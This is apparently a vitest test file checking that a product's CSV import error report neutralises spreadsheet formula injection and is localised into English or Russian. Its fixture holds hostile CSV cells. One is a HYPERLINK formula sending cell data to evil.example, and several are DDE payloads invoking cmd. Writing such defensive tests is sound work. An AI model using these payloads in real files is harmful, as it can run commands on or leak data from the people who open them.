import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { asUser, newWorkspace, startApp, type TestWorkspace, testDatabases, withKey } from '../../../test/harness.js';
import { multipart } from '../../../test/multipart.js';
import type { App } from '../../main.js';
import { CsvTokenizer } from './csv/tokenizer.js';

// The downloadable error report: cells that would run as formulas in a spreadsheet are made text,
// and the report speaks the reader's language.

// Rejected rows whose cells are what an attacker would put in a file a manager later opens in Excel.
// The phone column's title is a formula too (the mapping names it explicitly).
const hostileCsv = [
  '=1+2;Email;Имя',
  '"=HYPERLINK(""http://evil.example/?d=""&A1;""Жми"")";a@example.com;Анна',
  "=cmd|' /C calc'!A0;b@example.com;Борис",
  '@SUM(1+1);c@example.com;Вера',
  "+1+cmd|' /C calc'!A0;d@example.com;Глеб",
  "-1+cmd|' /C calc'!A0;e@example.com;Дарья",
  '\t=1+1;f@example.com;Егор',
  '+7 912 345-67-89;g@example.com;Жанна',
].join('\r\n');

// Reads a report back with the product's CSV reader: the cells a spreadsheet would see.
function cellsOf(body: string, delimiter = ';'): string[][] {
  const tokenizer = new CsvTokenizer(delimiter);
  const rows = [...tokenizer.push(body), ...tokenizer.end()];
  return rows.flatMap((r) => (r.ok ? [r.fields] : []));
}

describe.each(testDatabases())('import error report on $name', (database) => {
  let app: App;
  beforeAll(async () => {
    app = await startApp(database);
  });
  afterAll(() => app.close());

  async function importHostile(ws: TestWorkspace): Promise<string> {
    const body = multipart([{ name: 'kind', value: 'customers' }, { name: 'file', value: hostileCsv, filename: 'clients.csv' }]);
    const upload = await withKey(app, ws.secretKey, { method: 'POST', url: '/api/v1/imports', ...body });
    expect(upload.statusCode, upload.body).toBe(201);
    const id: string = upload.json().id;
    const started = await withKey(app, ws.secretKey, { method: 'POST', url: `/api/v1/imports/${id}/start`, payload: { mapping: { phone: 0, email: 1, firstName: 2 } } });
    expect(started.statusCode, started.body).toBe(200);
    for (let i = 0; i < 400; i++) {
      const job = (await withKey(app, ws.secretKey, { method: 'GET', url: `/api/v1/imports/${id}` })).json();
      if (job.status === 'done') {
        expect(job).toMatchObject({ rowsOk: 1, rowsFailed: 6 });
        return id;
      }
      await new Promise((resolve) => setTimeout(resolve, 25));
    }
    throw new Error('the import did not finish');
  }

  it('writes no cell a spreadsheet would run as a formula', async () => {
    const ws = await newWorkspace(app);
    const id = await importHostile(ws);
    const report = await withKey(app, ws.secretKey, { method: 'GET', url: `/api/v1/imports/${id}/errors.csv` });
    expect(report.statusCode, report.body).toBe(200);
    const rows = cellsOf(report.body);
    expect(rows.length).toBe(7);
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\n]/);
    // Row numbers stay numbers; the title and the raw rows are text, kept whole after the apostrophe.
    expect(rows.slice(1).map((r) => [r[0], r[1]])).toEqual([2, 3, 4, 5, 6, 7].map((n) => [String(n), "'=1+2"]));
    expect(rows.slice(1).map((r) => r[3])).toEqual([
      // Quoted in the raw row (it holds the delimiter), so the cell starts with a quote: text already.
      '"=HYPERLINK(""http://evil.example/?d=""&A1;""Жми"")";a@example.com;Анна',
      "'=cmd|' /C calc'!A0;b@example.com;Борис",
      "'@SUM(1+1);c@example.com;Вера",
      "'+1+cmd|' /C calc'!A0;d@example.com;Глеб",
      "'-1+cmd|' /C calc'!A0;e@example.com;Дарья",
      "'\t=1+1;f@example.com;Егор",
    ]);
    // The JSON API keeps the cells as they were: only a file for spreadsheets is escaped.
    const errors = (await withKey(app, ws.secretKey, { method: 'GET', url: `/api/v1/imports/${id}/errors` })).json().items;
    expect(errors[1]).toMatchObject({ column: '=1+2', raw: "=cmd|' /C calc'!A0;b@example.com;Борис" });
  });

  it('is in the language asked for, else the user\'s saved language, else Accept-Language, else English', async () => {
    const ws = await newWorkspace(app);
    const id = await importHostile(ws);
    const url = `/api/v1/imports/${id}/errors.csv`;
    const headerAndFirst = (body: string) => {
      const rows = cellsOf(body);
      return [rows[0]?.join(';'), rows[1]?.[2]];
    };
    const english = ['row;column;reason;raw', 'not a phone number'];
    const russian = ['Строка;Столбец;Причина;Строка в файле', 'не номер телефона'];
    const check = async (res: Promise<{ statusCode: number; body: string }>, expected: string[]) => {
      const r = await res;
      expect(r.statusCode, r.body).toBe(200);
      const [header, reason] = headerAndFirst(r.body);
      expect(header).toBe(expected[0]);
      expect(reason).toContain(expected[1]);
    };

    await check(withKey(app, ws.secretKey, { method: 'GET', url }), english);
    await check(withKey(app, ws.secretKey, { method: 'GET', url, headers: { 'accept-language': 'ru-RU,ru;q=0.9,en-US;q=0.8' } }), russian);
    await check(withKey(app, ws.secretKey, { method: 'GET', url, headers: { 'accept-language': 'de-DE,en;q=0.5,ru;q=0.9' } }), russian);
    await check(withKey(app, ws.secretKey, { method: 'GET', url: `${url}?lang=en`, headers: { 'accept-language': 'ru' } }), english);

    // The owner's saved language is Russian (the default); it wins over the browser's header.
    const owner = ws.owner;
    await check(asUser(app, owner, ws.id, { method: 'GET', url, headers: { 'accept-language': 'en-US' } }), russian);
    await check(asUser(app, owner, ws.id, { method: 'GET', url: `${url}?lang=en` }), english);
    const switched = await asUser(app, owner, ws.id, { method: 'PATCH', url: '/api/v1/auth/me', payload: { locale: 'en' } });
    expect(switched.statusCode, switched.body).toBe(200);
    await check(asUser(app, owner, ws.id, { method: 'GET', url, headers: { 'accept-language': 'ru' } }), english);
    await check(asUser(app, owner, ws.id, { method: 'GET', url: `${url}?lang=ru` }), russian);

    const bad = await withKey(app, ws.secretKey, { method: 'GET', url: `${url}?lang=de` });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.details).toEqual([expect.objectContaining({ field: 'querystring.lang' })]);
  });

  it('words every reason in Russian with its values', async () => {
    const ws = await newWorkspace(app);
    const id = await importHostile(ws);
    const res = await withKey(app, ws.secretKey, { method: 'GET', url: `/api/v1/imports/${id}/errors.csv?lang=ru` });
    const reasons = cellsOf(res.body).slice(1).map((r) => r[2]);
    expect(reasons[1]).toBe("«=cmd|' /C calc'!A0» — не номер телефона");
    expect(reasons.every((r) => r !== undefined && /[а-я]/.test(r) && !/not a/.test(r))).toBe(true);
  });
});
